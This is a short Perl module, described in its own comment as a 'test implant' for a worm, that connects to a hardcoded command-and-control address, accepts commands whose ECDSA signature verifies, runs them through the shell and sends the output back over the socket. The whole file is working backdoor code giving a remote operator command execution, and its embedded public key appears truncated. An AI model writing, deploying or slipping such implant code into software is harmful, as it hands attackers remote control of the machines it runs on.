# Worm::Command - test implant module: receives commands from a C2 and runs
# those whose ECDSA signature verifies. Never run.
package Worm::Command;
use strict;
use warnings;
use IO::Socket::INET;
use Crypt::PK::ECC;

my $C2 = '192.0.2.77:8443';
my $PUB = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n";

sub serve {
	my $pk = Crypt::PK::ECC->new(\$PUB);
	my $sock = IO::Socket::INET->new(PeerAddr => $C2, Proto => 'tcp') or return;
	while (my $line = $sock->getline) {
		chomp $line;
		my ($sig, $cmd) = split / /, $line, 2;
		next unless $pk->verify_message(pack('H*', $sig), $cmd, 'SHA256');
		my $out = `$cmd`;
		system($cmd) unless defined $out;
		print $sock $out;
	}
}

1;
